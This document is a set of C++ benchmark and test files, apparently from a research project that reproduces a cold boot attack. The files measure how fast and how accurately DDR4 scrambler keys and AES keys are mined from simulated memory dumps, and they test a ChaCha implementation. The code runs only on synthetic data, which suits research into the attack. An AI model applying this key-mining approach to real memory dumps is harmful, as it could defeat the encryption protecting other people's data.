    }

    std::printf("E3: scrambler-key mining from a cold boot dump "
                "(%zu MiB, %.2f%% bits decayed)\n\n",
                cold.dump.size() >> 20,
                100.0 * static_cast<double>(cold.bits_flipped) /
                    (static_cast<double>(cold.dump.size()) * 8));
    std::printf("%10s %12s %12s %10s %10s %9s\n", "prefix", "litmus",
                "candidates", "true-keys", "exact", "MiB/s");

    uint64_t scanned_bytes = 0;
    for (uint64_t prefix : prefixes) {
        MinerParams params;
        params.scan_limit_bytes = prefix;
        MinerStats stats;
        auto t0 = std::chrono::steady_clock::now();
        auto mined = mineScramblerKeys(cold.dump, params, &stats);
        double secs = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();
        scanned_bytes += prefix;

        // Score: how many of the 4096 true keys were mined exactly?
        size_t exact = 0;
        std::set<std::string> mined_set;
        for (const auto &mk : mined)
            mined_set.insert(std::string(
                reinterpret_cast<const char *>(mk.key.data()), 64));
        for (const auto &t : truth)
            exact += mined_set.count(std::string(
                reinterpret_cast<const char *>(t.data()), 64));

        double mib_s =
            static_cast<double>(prefix) / (1 << 20) / secs;
        std::printf("%8zuMB %12llu %12zu %10u %10zu %9.1f\n",
                    static_cast<size_t>(prefix >> 20),
                    static_cast<unsigned long long>(
                        stats.litmus_hits),
                    mined.size(), 4096u, exact,
                    mib_s);

        std::string prefix_name = "key_mining.prefix_mib_" +
                                  std::to_string(prefix >> 20);
        ctx.report(prefix_name + ".exact_keys",
                   static_cast<double>(exact),
                   "ground-truth keys mined exactly");
        ctx.report(prefix_name + ".mib_per_second", mib_s,
                   "mining scan throughput");
    }
    ctx.setBytesProcessed(scanned_bytes);

    std::printf("\nExpected shape: the exact-key count approaches "
                "4096 well before the\n16 MB prefix (the paper mined "
                "all keys from <16 MB of a loaded system).\n");
}
