/**
 * @file
 * coldboot-bench - the single driver for every benchmark in bench/.
 *
 * Each bench_*.cc registers its benches with COLDBOOT_BENCH(name);
 * this driver selects, runs and measures them through the obs bench
 * harness (warmup + repetitions, robust statistics, hardware
 * counters, RSS high-water mark, trace spans) and emits one
 * consolidated schema-versioned BENCH.json plus a human-readable
 * table. `tools/bench_compare` diffs two such files as the perf
 * regression gate.
 *
 *   coldboot-bench --list
 *   coldboot-bench --profile smoke --out BENCH.json
 *   coldboot-bench --filter micro_ --repetitions 10 --out BENCH.json
 */

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "common/logging.hh"
#include "obs/bench.hh"
#include "obs/fsio.hh"
#include "obs/http.hh"
#include "obs/sampler.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

using namespace coldboot;
using namespace coldboot::obs::bench;

namespace
{

int
usage()
{
    std::fprintf(
        stderr,
        "usage: coldboot-bench [options]\n"
        "  --list                list registered benches and exit\n"
        "  --filter SUBSTR       run only benches whose name contains"
        " SUBSTR\n"
        "                        (repeatable; a bench runs if any"
        " filter matches)\n"
        "  --profile smoke|full  smoke = tiny sizes, 1 rep, no warmup"
        " (default: full)\n"
        "  --repetitions N       measured repetitions per bench\n"
        "  --warmup N            discarded warmup runs per bench\n"
        "  --out FILE            write consolidated BENCH.json\n"
        "  --stats-json FILE     write the stats registry JSON\n"
        "  --trace FILE          write Chrome trace_event JSON\n"
        "  --serve-obs [ADDR:]PORT\n"
        "                        serve live telemetry over HTTP while"
        " benches run\n"
        "                        (also via COLDBOOT_SERVE_OBS)\n"
        "  --quiet               mute bench table/figure output\n");
    return 2;
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    RunConfig config;
    bool list_only = false;
    bool reps_set = false, warmup_set = false;
    std::vector<std::string> filters;
    std::string out_path, stats_path, trace_path, serve_spec;

    auto needValue = [&](int &i) -> const char * {
        if (i + 1 >= argc) {
            std::fprintf(stderr, "%s requires an argument\n",
                         argv[i]);
            std::exit(usage());
        }
        return argv[++i];
    };

    for (int i = 1; i < argc; ++i) {
        std::string arg = argv[i];
        if (arg == "--list") {
            list_only = true;
        } else if (arg == "--filter") {
            filters.push_back(needValue(i));
        } else if (arg == "--profile") {
            std::string profile = needValue(i);
            if (profile == "smoke")
                config.smoke = true;
            else if (profile == "full")
                config.smoke = false;
            else
                return usage();
        } else if (arg == "--repetitions") {
            config.repetitions =
                std::atoi(needValue(i));
            reps_set = true;
        } else if (arg == "--warmup") {
            config.warmup = std::atoi(needValue(i));
            warmup_set = true;
        } else if (arg == "--out") {
            out_path = needValue(i);
        } else if (arg == "--stats-json") {
            stats_path = needValue(i);
        } else if (arg == "--trace") {
            trace_path = needValue(i);
        } else if (arg == "--serve-obs") {
            serve_spec = needValue(i);
        } else if (arg == "--quiet") {
            config.quiet = true;
        } else if (arg == "--help" || arg == "-h") {
            usage();
            return 0;
        } else {
            std::fprintf(stderr, "unknown option '%s'\n",
                         arg.c_str());
            return usage();
        }
    }

    // The smoke profile is the ctest-able sanity run: tiny working
    // sets, one repetition, no warmup (unless overridden).
    if (config.smoke) {
        if (!reps_set)
            config.repetitions = 1;
        if (!warmup_set)
            config.warmup = 0;
    }
    if (config.repetitions < 1)
        cb_fatal("--repetitions must be >= 1");
    if (config.warmup < 0)
        cb_fatal("--warmup must be >= 0");

    const auto &registry = benchRegistry();
    std::vector<const BenchInfo *> selected;
    for (const auto &info : registry) {
        bool match = filters.empty();
        for (const auto &f : filters)
            match = match || info.name.find(f) != std::string::npos;
        if (match)
            selected.push_back(&info);
    }

    if (list_only) {
        for (const auto *info : selected)
            std::printf("%s\n", info->name.c_str());
        return 0;
    }
    if (selected.empty()) {
        std::fprintf(stderr, "no bench matches the given filters\n");
        return 1;
    }

    // Optional live telemetry while the benches run (zero cost when
    // absent: neither the sampler thread nor the socket exists).
    if (serve_spec.empty()) {
        if (const char *env = std::getenv("COLDBOOT_SERVE_OBS");
            env && *env)
            serve_spec = env;
    }
    std::unique_ptr<obs::TelemetrySampler> sampler;
    std::unique_ptr<obs::ObsHttpServer> server;
    if (!serve_spec.empty()) {
        obs::ServeSpec spec;
        std::string error;
        if (!obs::parseServeSpec(serve_spec, &spec, &error))
            cb_fatal("--serve-obs: %s", error.c_str());
        sampler = std::make_unique<obs::TelemetrySampler>();
        sampler->start();
        obs::ObsHttpServer::Options opts;
        opts.bind = spec;
        opts.sampler = sampler.get();
        server = std::make_unique<obs::ObsHttpServer>(opts);
        if (!server->start(&error))
            cb_fatal("--serve-obs: %s", error.c_str());
        std::printf("serving observability on http://%s:%u/\n",
                    server->address().c_str(), server->port());
        std::fflush(stdout);
    }

    std::printf("coldboot-bench: %zu bench(es), profile %s, "
                "%d repetition(s), %d warmup(s)\n\n",
                selected.size(), config.smoke ? "smoke" : "full",
                config.repetitions, config.warmup);

    std::vector<BenchResult> results;
    results.reserve(selected.size());
    for (const auto *info : selected) {
        std::printf("=== %s ===\n", info->name.c_str());
        std::fflush(stdout);
        results.push_back(runBench(*info, config));
        std::printf("\n");
    }

    std::printf("%s\n", resultTableHeader().c_str());
    for (const auto &result : results)
        std::printf("%s\n", resultTableRow(result).c_str());

    EnvironmentInfo env = collectEnvironment();
    if (!out_path.empty()) {
        obs::writeFileCreatingDirs(out_path,
                                   resultsToJson(config, env,
                                                 results),
                                   "bench output");
        std::printf("\nwrote %s (schema v%d, git %s)\n",
                    out_path.c_str(), benchJsonSchemaVersion,
                    env.git_sha.c_str());
    }
    if (!stats_path.empty())
        obs::StatRegistry::global().writeJsonFile(stats_path);
    if (!trace_path.empty())
        obs::PhaseTracer::global().writeTraceFile(trace_path);
    obs::flushEnvRequestedOutputs();
    return 0;
}
