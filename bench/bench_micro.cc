/**
 * @file
 * E10 - microbenchmarks of the crypto and attack kernels. These
 * quantify the building blocks behind the attack-performance
 * paragraph: AES block/expansion throughput, the litmus tests,
 * ChaCha keystream generation, XTS sector crypto and the key-mining
 * scan rate.
 *
 * Each kernel runs a fixed iteration count (scaled down under the
 * smoke profile) and reports per-op latency and throughput as report
 * sections; the harness-level wall_ns statistics cover the whole
 * suite.
 */

#include <chrono>
#include <cstring>
#include <string>
#include <vector>

#include "attack/key_miner.hh"
#include "attack/litmus.hh"
#include "common/bits.hh"
#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "crypto/aes_ttable.hh"
#include "crypto/chacha.hh"
#include "crypto/sha256.hh"
#include "crypto/xts.hh"
#include "memctrl/scrambler.hh"
#include "obs/bench.hh"
#include "platform/memory_image.hh"

using namespace coldboot;

namespace
{

template <typename T>
inline void
doNotOptimize(const T &value)
{
    asm volatile("" : : "g"(&value) : "memory");
}

/**
 * Time `iters` calls of `body`, print one table row and report
 * ns/op (plus MiB/s when bytes_per_iter > 0).
 */
template <typename Fn>
uint64_t
kernel(obs::bench::BenchContext &ctx, const std::string &name,
       uint64_t iters, uint64_t bytes_per_iter, Fn &&body)
{
    auto t0 = std::chrono::steady_clock::now();
    for (uint64_t i = 0; i < iters; ++i)
        body(i);
    double secs = std::chrono::duration<double>(
                      std::chrono::steady_clock::now() - t0)
                      .count();
    double ns_per_op = secs * 1e9 / static_cast<double>(iters);
    std::printf("%-26s %12llu it %12.1f ns/op", name.c_str(),
                static_cast<unsigned long long>(iters), ns_per_op);
    ctx.report("micro." + name + ".ns_per_op", ns_per_op,
               "per-iteration latency");
    if (bytes_per_iter > 0 && secs > 0) {
        double mib_s = static_cast<double>(iters * bytes_per_iter) /
                       (1 << 20) / secs;
        std::printf(" %12.1f MiB/s", mib_s);
        ctx.report("micro." + name + ".mib_per_second", mib_s,
                   "kernel throughput");
    }
    std::printf("\n");
    return iters * bytes_per_iter;
}

} // anonymous namespace

COLDBOOT_BENCH(micro)
{
    std::printf("E10: crypto and attack kernel microbenchmarks\n\n");
    // Fast kernels get a large fixed count; the smoke profile trims
    // everything to a sanity-check scale.
    const uint64_t fast = ctx.pick(uint64_t{1} << 16, uint64_t{1}
                                                          << 12);
    uint64_t total_bytes = 0;

    for (size_t key_len : {16u, 32u}) {
        std::vector<uint8_t> key(key_len);
        Xoshiro256StarStar rng(1);
        rng.fillBytes(key);
        crypto::Aes aes(key);
        uint8_t block[16] = {};
        total_bytes += kernel(
            ctx, "aes" + std::to_string(key_len * 8) + "_block",
            fast, 16, [&](uint64_t) {
                aes.encryptBlock(block, block);
                doNotOptimize(block);
            });
    }

    for (size_t key_len : {16u, 32u}) {
        std::vector<uint8_t> key(key_len);
        Xoshiro256StarStar rng(1);
        rng.fillBytes(key);
        crypto::FastAes aes(key);
        uint8_t block[16] = {};
        total_bytes += kernel(
            ctx,
            "fast_aes" + std::to_string(key_len * 8) + "_block",
            fast, 16, [&](uint64_t) {
                aes.encryptBlock(block, block);
                doNotOptimize(block);
            });
    }

    for (size_t key_len : {16u, 32u}) {
        std::vector<uint8_t> key(key_len);
        Xoshiro256StarStar rng(2);
        rng.fillBytes(key);
        kernel(ctx,
               "aes" + std::to_string(key_len * 8) + "_expand",
               fast / 4, 0, [&](uint64_t) {
                   auto sched = crypto::aesExpandKey(key);
                   doNotOptimize(sched);
               });
    }

    for (int rounds : {8, 12, 20}) {
        std::vector<uint8_t> key(32), nonce(8);
        Xoshiro256StarStar rng(3);
        rng.fillBytes(key);
        rng.fillBytes(nonce);
        crypto::ChaCha chacha(key, nonce, rounds);
        uint8_t out[64];
        total_bytes += kernel(
            ctx, "chacha" + std::to_string(rounds) + "_keystream",
            fast, 64, [&](uint64_t i) {
                chacha.keystreamBlock(i, out);
                doNotOptimize(out);
            });
    }

    {
        std::vector<uint8_t> k1(32), k2(32);
        Xoshiro256StarStar rng(4);
        rng.fillBytes(k1);
        rng.fillBytes(k2);
        crypto::XtsAes xts(k1, k2);
        std::vector<uint8_t> sector(512);
        rng.fillBytes(sector);
        total_bytes += kernel(ctx, "xts_sector", fast / 4, 512,
                              [&](uint64_t i) {
                                  xts.encryptSector(i, sector,
                                                    sector);
                                  doNotOptimize(sector.data());
                              });
    }

    for (size_t bytes : {64u, 4096u}) {
        std::vector<uint8_t> data(bytes);
        Xoshiro256StarStar rng(5);
        rng.fillBytes(data);
        total_bytes += kernel(
            ctx, "sha256_" + std::to_string(bytes), fast / 4, bytes,
            [&](uint64_t) {
                auto digest = crypto::Sha256::digest(data);
                doNotOptimize(digest);
            });
    }

    {
        memctrl::Ddr4Scrambler scr(42, 0);
        uint8_t key[64];
        scr.poolKey(7, key);
        total_bytes += kernel(ctx, "scrambler_key_litmus", fast, 64,
                              [&](uint64_t) {
                                  bool hit = attack::scramblerKeyLitmus(
                                      {key, 64}, 32);
                                  doNotOptimize(hit);
                              });
    }

    {
        // The dominant cost of the dump scan: litmus on random
        // blocks.
        Xoshiro256StarStar rng(6);
        uint8_t block[64];
        std::span<uint8_t> span(block, 64);
        rng.fillBytes(span);
        total_bytes += kernel(
            ctx, "aes_key_litmus_miss", fast, 64, [&](uint64_t) {
                auto hit = attack::aesKeyLitmus(
                    {block, 64}, crypto::AesKeySize::Aes256, 32, 12);
                doNotOptimize(hit);
            });
    }

    {
        Xoshiro256StarStar rng(7);
        std::vector<uint8_t> key(32);
        rng.fillBytes(key);
        auto sched = crypto::aesExpandKey(key);
        kernel(ctx, "aes_key_litmus_hit", fast / 4, 0,
               [&](uint64_t) {
                   auto hit = attack::aesKeyLitmus(
                       {&sched[16], 64}, crypto::AesKeySize::Aes256,
                       32, 12);
                   doNotOptimize(hit);
               });
    }

    {
        uint8_t a[64], b[64];
        Xoshiro256StarStar rng(8);
        std::span<uint8_t> sa(a, 64), sb(b, 64);
        rng.fillBytes(sa);
        rng.fillBytes(sb);
        kernel(ctx, "hamming_distance64", fast, 0, [&](uint64_t) {
            auto d = hammingDistance(sa, sb);
            doNotOptimize(d);
        });
    }

    {
        // Scan rate over a synthetic scrambled dump (64 distinct
        // keys planted in noise).
        const size_t dump_bytes = ctx.pick(MiB(1), KiB(256));
        platform::MemoryImage dump(dump_bytes);
        Xoshiro256StarStar rng(9);
        rng.fillBytes(dump.bytesMutable());
        memctrl::Ddr4Scrambler scr(10, 0);
        auto bytes = dump.bytesMutable();
        for (unsigned k = 0; k < 64; ++k) {
            uint8_t key[64];
            scr.poolKey(k * 64, key);
            for (unsigned copy = 0; copy < 4; ++copy)
                memcpy(
                    &bytes[((k * 4 + copy) * 131 % dump.lines()) *
                           64],
                    key, 64);
        }
        total_bytes += kernel(ctx, "key_mining", ctx.pick(4, 1),
                              dump_bytes, [&](uint64_t) {
                                  auto mined =
                                      attack::mineScramblerKeys(dump);
                                  doNotOptimize(mined);
                              });
    }

    {
        memctrl::Ddr4Scrambler scr(1, 0);
        kernel(ctx, "ddr4_scrambler_reseed", ctx.pick(64, 8), 0,
               [&](uint64_t i) {
                   scr.reseed(i + 2);
                   doNotOptimize(scr);
               });
    }

    ctx.setBytesProcessed(total_bytes);
}
