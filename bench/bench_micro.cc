/**
 * @file
 * E10 - microbenchmarks of the crypto and attack kernels
 * (google-benchmark). These quantify the building blocks behind the
 * attack-performance paragraph: AES block/expansion throughput, the
 * litmus tests, ChaCha keystream generation, XTS sector crypto and
 * the key-mining scan rate.
 */

#include <benchmark/benchmark.h>

#include <cstring>
#include <vector>

#include "attack/key_miner.hh"
#include "attack/litmus.hh"
#include "common/bits.hh"
#include "common/rng.hh"
#include "crypto/aes.hh"
#include "crypto/aes_ttable.hh"
#include "crypto/chacha.hh"
#include "crypto/sha256.hh"
#include "crypto/xts.hh"
#include "memctrl/scrambler.hh"
#include "platform/memory_image.hh"

using namespace coldboot;

namespace
{

void
BM_AesEncryptBlock(benchmark::State &state)
{
    std::vector<uint8_t> key(static_cast<size_t>(state.range(0)));
    Xoshiro256StarStar rng(1);
    rng.fillBytes(key);
    crypto::Aes aes(key);
    uint8_t block[16] = {};
    for (auto _ : state) {
        aes.encryptBlock(block, block);
        benchmark::DoNotOptimize(block);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * 16);
}
BENCHMARK(BM_AesEncryptBlock)->Arg(16)->Arg(32);

void
BM_FastAesEncryptBlock(benchmark::State &state)
{
    std::vector<uint8_t> key(static_cast<size_t>(state.range(0)));
    Xoshiro256StarStar rng(1);
    rng.fillBytes(key);
    crypto::FastAes aes(key);
    uint8_t block[16] = {};
    for (auto _ : state) {
        aes.encryptBlock(block, block);
        benchmark::DoNotOptimize(block);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * 16);
}
BENCHMARK(BM_FastAesEncryptBlock)->Arg(16)->Arg(32);

void
BM_AesKeyExpansion(benchmark::State &state)
{
    std::vector<uint8_t> key(static_cast<size_t>(state.range(0)));
    Xoshiro256StarStar rng(2);
    rng.fillBytes(key);
    for (auto _ : state) {
        auto sched = crypto::aesExpandKey(key);
        benchmark::DoNotOptimize(sched);
    }
}
BENCHMARK(BM_AesKeyExpansion)->Arg(16)->Arg(32);

void
BM_ChaChaKeystream(benchmark::State &state)
{
    std::vector<uint8_t> key(32), nonce(8);
    Xoshiro256StarStar rng(3);
    rng.fillBytes(key);
    rng.fillBytes(nonce);
    crypto::ChaCha chacha(key, nonce,
                          static_cast<int>(state.range(0)));
    uint8_t out[64];
    uint64_t counter = 0;
    for (auto _ : state) {
        chacha.keystreamBlock(counter++, out);
        benchmark::DoNotOptimize(out);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * 64);
}
BENCHMARK(BM_ChaChaKeystream)->Arg(8)->Arg(12)->Arg(20);

void
BM_XtsSector(benchmark::State &state)
{
    std::vector<uint8_t> k1(32), k2(32);
    Xoshiro256StarStar rng(4);
    rng.fillBytes(k1);
    rng.fillBytes(k2);
    crypto::XtsAes xts(k1, k2);
    std::vector<uint8_t> sector(512);
    rng.fillBytes(sector);
    uint64_t n = 0;
    for (auto _ : state) {
        xts.encryptSector(n++, sector, sector);
        benchmark::DoNotOptimize(sector.data());
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * 512);
}
BENCHMARK(BM_XtsSector);

void
BM_Sha256(benchmark::State &state)
{
    std::vector<uint8_t> data(
        static_cast<size_t>(state.range(0)));
    Xoshiro256StarStar rng(5);
    rng.fillBytes(data);
    for (auto _ : state) {
        auto digest = crypto::Sha256::digest(data);
        benchmark::DoNotOptimize(digest);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * state.range(0));
}
BENCHMARK(BM_Sha256)->Arg(64)->Arg(4096);

void
BM_ScramblerKeyLitmus(benchmark::State &state)
{
    memctrl::Ddr4Scrambler scr(42, 0);
    uint8_t key[64];
    scr.poolKey(7, key);
    for (auto _ : state) {
        bool hit = attack::scramblerKeyLitmus({key, 64}, 32);
        benchmark::DoNotOptimize(hit);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * 64);
}
BENCHMARK(BM_ScramblerKeyLitmus);

void
BM_AesKeyLitmusMiss(benchmark::State &state)
{
    // The dominant cost of the dump scan: litmus on random blocks.
    Xoshiro256StarStar rng(6);
    uint8_t block[64];
    std::span<uint8_t> span(block, 64);
    rng.fillBytes(span);
    for (auto _ : state) {
        auto hit = attack::aesKeyLitmus(
            {block, 64}, crypto::AesKeySize::Aes256, 32, 12);
        benchmark::DoNotOptimize(hit);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * 64);
}
BENCHMARK(BM_AesKeyLitmusMiss);

void
BM_AesKeyLitmusHit(benchmark::State &state)
{
    Xoshiro256StarStar rng(7);
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    for (auto _ : state) {
        auto hit = attack::aesKeyLitmus(
            {&sched[16], 64}, crypto::AesKeySize::Aes256, 32, 12);
        benchmark::DoNotOptimize(hit);
    }
}
BENCHMARK(BM_AesKeyLitmusHit);

void
BM_HammingDistance64(benchmark::State &state)
{
    uint8_t a[64], b[64];
    Xoshiro256StarStar rng(8);
    std::span<uint8_t> sa(a, 64), sb(b, 64);
    rng.fillBytes(sa);
    rng.fillBytes(sb);
    for (auto _ : state) {
        auto d = hammingDistance(sa, sb);
        benchmark::DoNotOptimize(d);
    }
}
BENCHMARK(BM_HammingDistance64);

void
BM_KeyMining(benchmark::State &state)
{
    // Scan rate over a synthetic scrambled dump (64 distinct keys
    // planted in noise).
    platform::MemoryImage dump(static_cast<size_t>(state.range(0)));
    Xoshiro256StarStar rng(9);
    rng.fillBytes(dump.bytesMutable());
    memctrl::Ddr4Scrambler scr(10, 0);
    auto bytes = dump.bytesMutable();
    for (unsigned k = 0; k < 64; ++k) {
        uint8_t key[64];
        scr.poolKey(k * 64, key);
        for (unsigned copy = 0; copy < 4; ++copy)
            memcpy(&bytes[((k * 4 + copy) * 131 % dump.lines()) * 64],
                   key, 64);
    }
    for (auto _ : state) {
        auto mined = attack::mineScramblerKeys(dump);
        benchmark::DoNotOptimize(mined);
    }
    state.SetBytesProcessed(
        static_cast<int64_t>(state.iterations()) * state.range(0));
}
BENCHMARK(BM_KeyMining)->Arg(1 << 20)->Unit(benchmark::kMillisecond);

void
BM_Ddr4ScramblerReseed(benchmark::State &state)
{
    memctrl::Ddr4Scrambler scr(1, 0);
    uint64_t seed = 2;
    for (auto _ : state) {
        scr.reseed(seed++);
        benchmark::DoNotOptimize(scr);
    }
}
BENCHMARK(BM_Ddr4ScramblerReseed)->Unit(benchmark::kMillisecond);

} // anonymous namespace

BENCHMARK_MAIN();
