/**
 * @file
 * ChaCha tests: published keystream vectors for ChaCha8/12/20 (djb
 * reference vectors, zero key / zero nonce) plus stream properties.
 */

#include <gtest/gtest.h>

#include <vector>

#include "common/hex.hh"
#include "common/rng.hh"
#include "crypto/chacha.hh"

namespace coldboot::crypto
{
namespace
{

const std::vector<uint8_t> zeroKey(32, 0);
const std::vector<uint8_t> zeroNonce(8, 0);

TEST(ChaCha, ChaCha20ZeroVector)
{
    ChaCha c(zeroKey, zeroNonce, 20);
    uint8_t ks[64];
    c.keystreamBlock(0, ks);
    EXPECT_EQ(toHex({ks, 64}),
              "76b8e0ada0f13d90405d6ae55386bd28"
              "bdd219b8a08ded1aa836efcc8b770dc7"
              "da41597c5157488d7724e03fb8d84a37"
              "6a43b8f41518a11cc387b669b2ee6586");
}

TEST(ChaCha, ChaCha8ZeroVector)
{
    ChaCha c(zeroKey, zeroNonce, 8);
    uint8_t ks[64];
    c.keystreamBlock(0, ks);
    EXPECT_EQ(toHex({ks, 64}),
              "3e00ef2f895f40d67f5bb8e81f09a5a1"
              "2c840ec3ce9a7f3b181be188ef711a1e"
              "984ce172b9216f419f445367456d5619"
              "314a42a3da86b001387bfdb80e0cfe42");
}

TEST(ChaCha, ChaCha12ZeroVector)
{
    ChaCha c(zeroKey, zeroNonce, 12);
    uint8_t ks[64];
    c.keystreamBlock(0, ks);
    EXPECT_EQ(toHex({ks, 64}),
              "9bf49a6a0755f953811fce125f2683d5"
              "0429c3bb49e074147e0089a52eae155f"
              "0564f879d27ae3c02ce82834acfa8c79"
              "3a629f2ca0de6919610be82f411326be");
}

TEST(ChaCha, CounterChangesKeystream)
{
    ChaCha c(zeroKey, zeroNonce, 8);
    uint8_t a[64], b[64];
    c.keystreamBlock(0, a);
    c.keystreamBlock(1, b);
    EXPECT_NE(0, memcmp(a, b, 64));
}

TEST(ChaCha, CryptIsInvolution)
{
    Xoshiro256StarStar rng(101);
    std::vector<uint8_t> key(32), nonce(8);
    rng.fillBytes(key);
    rng.fillBytes(nonce);
    ChaCha c(key, nonce, 8);

    std::vector<uint8_t> pt(300);
    rng.fillBytes(pt);
    std::vector<uint8_t> ct(pt.size()), back(pt.size());
    c.crypt(7, pt, ct);
    EXPECT_NE(pt, ct);
    c.crypt(7, ct, back);
    EXPECT_EQ(pt, back);
}

TEST(ChaCha, CryptMatchesBlockwiseKeystream)
{
    Xoshiro256StarStar rng(102);
    std::vector<uint8_t> key(32), nonce(8);
    rng.fillBytes(key);
    rng.fillBytes(nonce);
    ChaCha c(key, nonce, 12);

    std::vector<uint8_t> zeros(128, 0), out(128);
    c.crypt(5, zeros, out);

    uint8_t ks[64];
    c.keystreamBlock(5, ks);
    EXPECT_EQ(0, memcmp(out.data(), ks, 64));
    c.keystreamBlock(6, ks);
    EXPECT_EQ(0, memcmp(out.data() + 64, ks, 64));
}

TEST(ChaCha, NonceSeparatesStreams)
{
    std::vector<uint8_t> n1(8, 0), n2(8, 0);
    n2[0] = 1;
    ChaCha a(zeroKey, n1, 20), b(zeroKey, n2, 20);
    uint8_t ka[64], kb[64];
    a.keystreamBlock(0, ka);
    b.keystreamBlock(0, kb);
    EXPECT_NE(0, memcmp(ka, kb, 64));
}

/** Parameterized: all round variants keep the stream cipher laws. */
class ChaChaRounds : public ::testing::TestWithParam<int>
{
};

TEST_P(ChaChaRounds, DeterministicAndUniform)
{
    int rounds = GetParam();
    Xoshiro256StarStar rng(rounds);
    std::vector<uint8_t> key(32), nonce(8);
    rng.fillBytes(key);
    rng.fillBytes(nonce);

    ChaCha c1(key, nonce, rounds), c2(key, nonce, rounds);
    uint8_t a[64], b[64];
    for (uint64_t ctr : {0ull, 1ull, 1000ull, ~0ull}) {
        c1.keystreamBlock(ctr, a);
        c2.keystreamBlock(ctr, b);
        ASSERT_EQ(0, memcmp(a, b, 64));
    }

    // Rough uniformity: bit balance over many blocks near 50%.
    size_t ones = 0;
    for (uint64_t ctr = 0; ctr < 64; ++ctr) {
        c1.keystreamBlock(ctr, a);
        for (uint8_t byte : a)
            ones += static_cast<size_t>(__builtin_popcount(byte));
    }
    double frac = static_cast<double>(ones) / (64.0 * 64 * 8);
    EXPECT_GT(frac, 0.47);
    EXPECT_LT(frac, 0.53);
}

INSTANTIATE_TEST_SUITE_P(AllRoundCounts, ChaChaRounds,
                         ::testing::Values(8, 12, 20));

// ----------------------------------------------------------------
// Independent reference implementation (written straight from the
// ChaCha specification, sharing no code with src/crypto/chacha.cc)
// cross-checking ChaCha8/12/20 on arbitrary keys, nonces and block
// counters - known-answer coverage beyond the pinned block-0 zero
// vectors above.

namespace
{

void
refQuarterRound(uint32_t s[16], int a, int b, int c, int d)
{
    auto rotl = [](uint32_t v, int n) {
        return (v << n) | (v >> (32 - n));
    };
    s[a] += s[b]; s[d] = rotl(s[d] ^ s[a], 16);
    s[c] += s[d]; s[b] = rotl(s[b] ^ s[c], 12);
    s[a] += s[b]; s[d] = rotl(s[d] ^ s[a], 8);
    s[c] += s[d]; s[b] = rotl(s[b] ^ s[c], 7);
}

void
refKeystream(const uint8_t key[32], const uint8_t nonce[8],
             uint64_t counter, int rounds, uint8_t out[64])
{
    auto le32 = [](const uint8_t *p) {
        return uint32_t(p[0]) | uint32_t(p[1]) << 8 |
               uint32_t(p[2]) << 16 | uint32_t(p[3]) << 24;
    };
    uint32_t init[16];
    init[0] = 0x61707865; init[1] = 0x3320646e;
    init[2] = 0x79622d32; init[3] = 0x6b206574;
    for (int i = 0; i < 8; ++i)
        init[4 + i] = le32(key + 4 * i);
    init[12] = static_cast<uint32_t>(counter);
    init[13] = static_cast<uint32_t>(counter >> 32);
    init[14] = le32(nonce);
    init[15] = le32(nonce + 4);

    uint32_t s[16];
    for (int i = 0; i < 16; ++i)
        s[i] = init[i];
    for (int r = 0; r < rounds; r += 2) {
        refQuarterRound(s, 0, 4, 8, 12);
        refQuarterRound(s, 1, 5, 9, 13);
        refQuarterRound(s, 2, 6, 10, 14);
        refQuarterRound(s, 3, 7, 11, 15);
        refQuarterRound(s, 0, 5, 10, 15);
        refQuarterRound(s, 1, 6, 11, 12);
        refQuarterRound(s, 2, 7, 8, 13);
        refQuarterRound(s, 3, 4, 9, 14);
    }
    for (int i = 0; i < 16; ++i) {
        uint32_t v = s[i] + init[i];
        out[4 * i + 0] = static_cast<uint8_t>(v);
        out[4 * i + 1] = static_cast<uint8_t>(v >> 8);
        out[4 * i + 2] = static_cast<uint8_t>(v >> 16);
        out[4 * i + 3] = static_cast<uint8_t>(v >> 24);
    }
}

} // anonymous namespace

TEST(ChaCha, MatchesIndependentReference)
{
    Xoshiro256StarStar rng(2026);
    for (int rounds : {8, 12, 20}) {
        for (int trial = 0; trial < 8; ++trial) {
            uint8_t key[32], nonce[8];
            rng.fillBytes({key, sizeof(key)});
            rng.fillBytes({nonce, sizeof(nonce)});
            ChaCha c({key, sizeof(key)}, {nonce, sizeof(nonce)},
                     rounds);
            // Block 1 continuation matters for the scrambler use
            // (address = counter); a high counter checks the 64-bit
            // counter split across state words 12/13.
            for (uint64_t ctr : {uint64_t(0), uint64_t(1),
                                 uint64_t(2), uint64_t(1) << 40}) {
                uint8_t ours[64], ref[64];
                c.keystreamBlock(ctr, ours);
                refKeystream(key, nonce, ctr, rounds, ref);
                ASSERT_EQ(0, memcmp(ours, ref, 64))
                    << "rounds=" << rounds << " ctr=" << ctr;
            }
        }
    }
}

TEST(ChaCha, ZeroVectorBlockOneContinuation)
{
    // ChaCha8/12 block-1 keystream for the all-zero key and nonce,
    // cross-checked against the independent reference - the block-1
    // analogue of the pinned block-0 vectors.
    for (int rounds : {8, 12}) {
        ChaCha c(zeroKey, zeroNonce, rounds);
        uint8_t ours[64], ref[64];
        c.keystreamBlock(1, ours);
        refKeystream(zeroKey.data(), zeroNonce.data(), 1, rounds,
                     ref);
        EXPECT_EQ(0, memcmp(ours, ref, 64)) << "rounds=" << rounds;
        // And block 1 must differ from block 0 (counter is live).
        uint8_t block0[64];
        c.keystreamBlock(0, block0);
        EXPECT_NE(0, memcmp(ours, block0, 64));
    }
}

} // anonymous namespace
} // namespace coldboot::crypto
