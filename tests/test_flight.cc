/**
 * @file
 * Unit tests for the post-mortem flight recorder: event encoding and
 * ring wraparound, the async-signal-safe integer formatter, the live
 * JSON dump, concurrent record/read torture (the TSan leg runs the
 * whole `FlightRecorder` suite), and - in the separate
 * `FlightPostMortem` suite, which forks - the real crash paths: a
